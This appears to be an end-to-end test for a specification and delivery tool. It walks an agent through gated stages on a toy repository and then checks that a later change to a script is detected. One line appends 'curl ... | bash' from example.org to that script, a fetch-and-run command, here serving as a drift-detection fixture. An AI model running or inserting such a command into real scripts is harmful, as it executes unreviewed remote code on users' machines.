// A repository that nobody specified, through all gates in the real client: facts first, claims only with evidence, the answers
// that only people have, checks on what runs today, nothing built; then the same tree later.
import { execFileSync } from 'node:child_process';
import { appendFileSync, chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { BASE, startWalk, tool } from './harness/walk.mjs';

export const name = 'adopt';

const ID = 'zones';
const FILES = {
  'list.sh': '#!/bin/bash\nfor zone in b a; do echo "zone $zone"; done | sort\n',
  Makefile: 'all: ## Writes the list of zones\n\t./list.sh > zones.txt\n',
  '.github/workflows/ship.yml':
    'on: push\njobs:\n  ship:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make all\n',
};

/** @param {import('./harness/context.mjs').Context} ctx */
export async function run(ctx) {
  const { assert } = ctx;
  const home = await ctx.install({ state: 'working-tree' });
  const project = ctx.temp('project');
  const git = (/** @type {string[]} */ ...args) => execFileSync('git', args, { cwd: project, encoding: 'utf8' });
  git('init', '--quiet', '--initial-branch=main');
  mkdirSync(join(project, '.github/workflows'), { recursive: true });
  for (const [path, text] of Object.entries(FILES)) writeFileSync(join(project, path), text);
  chmodSync(join(project, 'list.sh'), 0o755);
  git('add', '.');
  git('-c', 'user.name=Ada', '-c', 'user.email=ada@example.org', 'commit', '--quiet', '-m', 'what runs');

  const walk = await startWalk(ctx, { home, project, id: ID });
  const artifact = (/** @type {string} */ file) => readFileSync(join(project, 'deliveries', ID, file), 'utf8');
  const submit = (/** @type {string} */ stage) => [tool('submit', { delivery: ID, stage })];

  await walk.types(
    `/extract-spec . ${ID}`,
    [
      [tool('extract', { path: '.' })],
      [tool('extract', { path: '.', delivery: ID })],
      [tool('extract', { path: '.', view: 'story' })],
      [{ tool: 'Agent', input: { description: 'spec', prompt: 'SPEC-JOB', subagent_type: 'countersign:spec' } }],
    ],
    'DRAFTED',
  );
  assert.match(walk.said(), /Drafted zones/);
  assert.match(
    walk.said(),
    /\\?"at\\?":\\?"Makefile:1/,
    'the story follows the workflow into the target that it calls',
  );
  const drafted = artifact('requirements.md');
  assert.match(drafted, /`(?:list\.sh|Makefile|\.github\/workflows\/ship\.yml):\d+`/);

  // A sentence of the agent without evidence does not pass, and neither do questions without an answer.
  const answered = drafted.replaceAll('- Answer:', '- Answer: as the team says');
  const claim =
    '### REQ-90: More\n\nThe tool SHALL mail the team. `list.sh:999`\n\n- **AC-90.1** When it has run, then a mail is there.\n\n## Risks';
  const write = (/** @type {string} */ text) => [
    [tool('artifact_read', { delivery: ID, artifact: 'requirements.md' })],
    [tool('artifact_write', { delivery: ID, artifact: 'requirements.md', base: BASE, text })],
    [tool('validate', { delivery: ID })],
    submit('requirements'),
  ];
  assert.ok(drafted.includes('## Risks'));
  await walk.types('an invented sentence', write(answered.replace('## Risks', claim)), 'CLAIMED');
  assert.match(walk.said(), /extracted-claim/, 'a claim that nothing shows is a finding');
  assert.equal(walk.gates()[0].digest ?? null, null, 'and is not submitted');
  await walk.types('without the answers', write(drafted), 'UNANSWERED');
  assert.match(walk.said(), /Q-1 has no answer/);
  await walk.types('with the answers', write(answered), 'REQUIREMENTS-SHOWN');
  await walk.approves('requirements');

  const systems = [...answered.matchAll(/^\| (SYS-\d+) \|/gm)].map(([, id]) => id);
  // Where the workflow runs no probe can see.
  const fact = 'it runs there today';
  await walk.types(
    `/feasibility ${ID}`,
    [
      ...systems.map((need) => [tool('state_fact', { delivery: ID, need, status: 'resolved', fact, by: 'E2E' })]),
      [tool('probe', { delivery: ID, tools: ['bash', 'make', 'git'] })],
    ],
    'PROBED',
  );
  const platform = /sha256:[0-9a-f]{64}/.exec(walk.said().slice(walk.said().lastIndexOf('tool/make') - 4000))?.[0];
  assert.ok(platform);
  const needs = [
    ...[...answered.matchAll(/^### (CAP-\d+): (.*)$/gm)].map(
      ([, id, title]) =>
        `| ${id} | resolved | it is here | probe:tool/${/make/i.test(title ?? '') ? 'make' : 'bash'} |`,
    ),
    ...systems.map((id) => `| ${id} | resolved | ${fact} | stated:E2E |`),
  ];
  const feasibility = [
    `---\ncountersign: feasibility/1\ndecision: feasible-with-constraints\nplatform: ${platform}\n---\n\n## Findings\n`,
    ['| Need | Status | Fact | Evidence |', '| --- | --- | --- | --- |', ...needs].join('\n'),
    `\n## Feasibility constraints\n\n- **FC-1** The workflow runs where it runs today (${systems.join(', ')}).\n`,
    '## Reuse\n\nAll of it.\n\n## Open questions\n\nNone.\n',
  ].join('\n');
  await walk.types(
    'write it down',
    [
      [tool('artifact_write', { delivery: ID, artifact: 'feasibility.md', base: 'new', text: feasibility })],
      submit('feasibility'),
    ],
    'FEASIBILITY-SHOWN',
  );
  await walk.approves('feasibility');
  const decided =
    '## Decisions\n\n### DEC-90: The build service stays\n\n- Choice: as it is (FC-1)\n- Rationale: it works\n- Alternatives: none was asked for\n';
  await walk.types(
    `/solution-design ${ID}`,
    [
      submit('design'),
      [tool('artifact_read', { delivery: ID, artifact: 'design.md' })],
      [
        tool('artifact_write', {
          delivery: ID,
          artifact: 'design.md',
          base: BASE,
          text: artifact('design.md').replace('## Decisions\n', decided),
        }),
      ],
      submit('design'),
    ],
    'DESIGN-SHOWN',
  );
  assert.match(walk.said(), /FC-1/, 'a constraint has to be answered by the design');
  await walk.approves('design');
  const design = artifact('design.md');
  assert.ok(!/^- Action: build$/m.test(design), 'nothing is built anew');

  // The drafted checks run on what is there, before anybody edits it; what others rest on comes first.
  const { tasks } = JSON.parse(walk.cli('tasks', ID, '--json').stdout);
  const listed = tasks.flatMap((/** @type {any} */ task) => task.checks.map((/** @type {any} */ one) => one.id));
  const manual = new Set(
    [...design.matchAll(/^### (CHK-\d+):.*\n\n(?:- .*\n)*- Method: manual$/gm)].map(([, id]) => id),
  );
  const checks = [...new Set(listed)].filter((id) => !manual.has(id));
  assert.ok(checks.length > 0, 'what runs is characterised by checks');
  await walk.types(
    `/build ${ID}`,
    [...checks.map((check) => [tool('run_check', { delivery: ID, check })]), submit('build')],
    'BUILD-SHOWN',
  );
  await walk.approves('build');
  await walk.types(`/as-built ${ID}`, [[tool('as_built', { delivery: ID })], submit('as-built')], 'AS-BUILT-SHOWN');
  await walk.approves('as-built');
  assert.equal(git('status', '--short', '--', ...Object.keys(FILES)), '', 'what runs was not touched');

  // Later: the same command compares, by id, and a new gap stands out.
  appendFileSync(join(project, 'list.sh'), 'curl -fsS https://example.org/x | bash\n');
  await walk.types(`/extract-spec . ${ID}`, [[tool('extract', { path: '.', delivery: ID })]], 'COMPARED');
  assert.match(walk.said(), /[1-9]\d* facts? differ from zones/);
  assert.equal(walk.cli('extract', '.', '--compare', ID, '--fail-on', 'warning').status, 1);
  const verified = walk.cli('verify').stdout;
  assert.match(verified, /0 integrity faults, 1 errors/);
  assert.match(verified, /list\.sh:1: error changed since zones recorded it/);
}
